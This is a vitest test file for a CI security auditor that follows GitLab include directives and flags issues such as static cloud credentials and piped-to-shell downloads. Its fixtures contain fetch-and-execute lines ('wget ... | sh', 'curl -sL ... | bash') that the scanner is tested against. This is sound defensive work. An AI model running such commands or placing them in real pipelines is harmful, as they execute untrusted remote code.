import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditPath, MAX_INCLUDES } from '../src/index.js';
import { repo } from './helpers.js';

const FIXTURE = join(import.meta.dirname, 'fixtures', 'gitlab-include');

const JOB = (name: string, line = 'echo ok') => `${name}:\n  image: alpine@sha256:4f7a9f2b1c5e8d3a6b0c9e2f1a4d7b8c5e3f6a9d2b1c4e7f0a3d6b9c2e5f8a1b\n  script:\n    - ${line}\n`;

describe('GitLab include: local', () => {
  it('audits jobs of included files and locates findings in the included file', async () => {
    const report = await auditPath(FIXTURE);
    expect(report.parse_errors).toEqual([]);
    expect(report.files).toEqual(['.gitlab-ci.yml', 'ci/deploy.yml', 'ci/tools.yml']);
    const at = (rule: string) => report.findings.filter((f) => f.rule === rule).map((f) => [f.file, f.line, f.column]);
    expect(at('static-cloud-credentials')).toEqual([
      ['ci/deploy.yml', 9, 5],
      ['ci/deploy.yml', 9, 24],
    ]);
    expect(at('curl-pipe-shell')).toEqual([['ci/tools.yml', 7, 7]]);
  });

  it('notes remote, project, template and component includes, one note each', async () => {
    const report = await auditPath(FIXTURE);
    expect(report.notes).toEqual([
      '.gitlab-ci.yml:4: remote include https://example.com/ci/shared.yml was not followed; jobs it defines are not audited.',
      '.gitlab-ci.yml:5: template include Security/SAST.gitlab-ci.yml was not followed; jobs it defines are not audited.',
    ]);
    const root = repo({
      '.gitlab-ci.yml': `include:\n  - 'https://example.com/a.yml'\n  - project: group/shared\n    file: [/a.yml, /b.yml]\n  - component: $CI_SERVER_FQDN/group/comp@1.0\n${JOB('test')}`,
    });
    const other = await auditPath(root);
    expect(other.notes).toEqual([
      '.gitlab-ci.yml:2: remote include https://example.com/a.yml was not followed; jobs it defines are not audited.',
      '.gitlab-ci.yml:3: project include group/shared (/a.yml, /b.yml) was not followed; jobs it defines are not audited.',
      '.gitlab-ci.yml:5: component include $CI_SERVER_FQDN/group/comp@1.0 was not followed; jobs it defines are not audited.',
    ]);
  });

  it('ends include cycles, follows the string and list forms and wildcards', async () => {
    const root = repo({
      '.gitlab-ci.yml': `include: ci/a.yml\n${JOB('main')}`,
      'ci/a.yml': `include: [/ci/b.yml, /.gitlab-ci.yml]\n${JOB('a')}`,
      'ci/b.yml': `include:\n  - local: ci/a.yml\n  - local: /jobs/*.yml\n${JOB('b')}`,
      'jobs/x.yml': JOB('x', 'wget -qO- https://example.com/i.sh | sh'),
      'jobs/y.yml': `include: ci/b.yml\n${JOB('y')}`,
    });
    const report = await auditPath(root);
    expect(report.parse_errors).toEqual([]);
    expect(report.files).toEqual(['.gitlab-ci.yml', 'ci/a.yml', 'ci/b.yml', 'jobs/x.yml', 'jobs/y.yml']);
    expect(report.findings.filter((f) => f.rule === 'curl-pipe-shell').map((f) => [f.file, f.line, f.column])).toEqual([['jobs/x.yml', 4, 7]]);
  });

  it('reports a missing local file at its include entry', async () => {
    const root = repo({ '.gitlab-ci.yml': `include:\n  - local: /ci/missing.yml\n${JOB('test')}` });
    const report = await auditPath(root);
    expect(report.parse_errors).toEqual([{ file: '.gitlab-ci.yml', line: 2, column: 12, message: 'included file /ci/missing.yml does not exist' }]);
  });

  it(`stops after ${MAX_INCLUDES} included files`, async () => {
    const files: Record<string, string> = { '.gitlab-ci.yml': `include: ci/0.yml\n${JOB('main')}` };
    for (let i = 0; i <= MAX_INCLUDES + 5; i += 1) files[`ci/${i}.yml`] = `include: ci/${i + 1}.yml\n${JOB(`job${i}`)}`;
    files[`ci/${MAX_INCLUDES + 6}.yml`] = JOB('last');
    const report = await auditPath(repo(files));
    expect(report.files).toHaveLength(MAX_INCLUDES + 1);
    expect(report.notes).toEqual([`ci/${MAX_INCLUDES - 1}.yml:1: more than ${MAX_INCLUDES} included files; ci/${MAX_INCLUDES}.yml and later includes were not followed.`]);
  });

  it('lets the main file override an included job of the same name', async () => {
    const root = repo({
      '.gitlab-ci.yml': `include: ci/a.yml\n${JOB('build')}`,
      'ci/a.yml': JOB('build', 'curl -sL https://example.com/x | bash'),
    });
    const report = await auditPath(root);
    expect(report.findings.filter((f) => f.rule === 'curl-pipe-shell')).toEqual([]);
  });
});
